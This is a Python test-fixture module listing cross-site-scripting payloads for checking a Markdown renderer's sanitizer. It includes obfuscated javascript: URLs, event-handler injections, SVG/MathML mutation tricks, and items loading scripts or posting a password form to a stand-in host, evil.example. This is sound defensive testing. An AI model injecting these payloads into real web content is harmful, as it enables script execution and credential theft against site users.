"""Hostile Markdown for `core.rendering`: each item must render to HTML without active content.

Sources of inspiration: the OWASP XSS filter evasion cheat sheet, html5sec.org, bleach's and python-markdown's
own security tests. Grouped by technique; the test suite checks every item with one HTML-parsing checker.
"""

from __future__ import annotations

_SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",  # never closed
    "text\n\n<script>\nalert(1)\n</script>\n\nmore text",  # an HTML block between paragraphs
    "<div><script>alert(1)</script></div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.org/a.png" onload="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<p style="x" onclick="alert(1)">click</p>',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "**bold** <b onmouseover=alert(1)>b</b> _it_",
]

_JAVASCRIPT_URLS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#09;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](jav&#x0D;ascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x][ref]\n\n[ref]: javascript:alert(1) "title"',
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    "[x][ref]\n\n[ref]: &#106;avascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript:alert(1)",  # bare text must stay text
]

_IMAGES = [
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:text/html,<script>alert(1)</script>)",
    '![x](x" onerror="alert(1))',
    '![x](https://example.org/a.png" onerror="alert(1))',
    '![x" onerror="alert(1)](https://example.org/a.png)',
    "![x][img]\n\n[img]: javascript:alert(1)",
    "![x][img]\n\n[img]: data:image/png;base64,iVBORw0KGgo=",
    '![x](https://example.org/a.png "title\\" onerror=\\"alert(1)")',
    "[![x](javascript:alert(1))](javascript:alert(2))",
]

_ACTIVE_ELEMENTS = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="width: expression(alert(1))">x</p>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<form action="https://evil.example"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<applet code=x></applet>",
    "<isindex action=javascript:alert(1) type=image>",
]

_BROKEN_AND_MIXED = [
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<p <script>alert(1)</script>",
    '<a href="https://example.org"<script>alert(1)</script>>x</a>',
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<</p>iframe src=javascript:alert(1)>",
    "<em>*<script>alert(1)</script>*</em>",
    '[x](https://example.org "<script>alert(1)</script>")',
    "[<script>alert(1)</script>](https://example.org)",
    '[x](https://example.org "a" onmouseover="alert(1)")',
    "[x](https://example.org)<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```{ .x onclick=alert(1) #y }\ncode\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "Note[^x]\n\n[^x]: <script>alert(1)</script> [y](javascript:alert(1))",
    '[^" onmouseover="alert(1)]\n\n[^" onmouseover="alert(1)]: x',
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",  # python-markdown's stash placeholder, forged
    "```\n<script>alert(1)</script>\n```\n\n\x02wzxhzdk:0\x03",
    "\x00<script>alert(1)</script>",
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7} <%= 7*7 %>",
    "<a href=\"{{ 'javascript:alert(1)' }}\">x</a>",
    "«<script>alert(1)</script>»",
]

XSS_CORPUS: list[str] = [
    *_SCRIPT,
    *_EVENT_HANDLERS,
    *_JAVASCRIPT_URLS,
    *_IMAGES,
    *_ACTIVE_ELEMENTS,
    *_BROKEN_AND_MIXED,
]
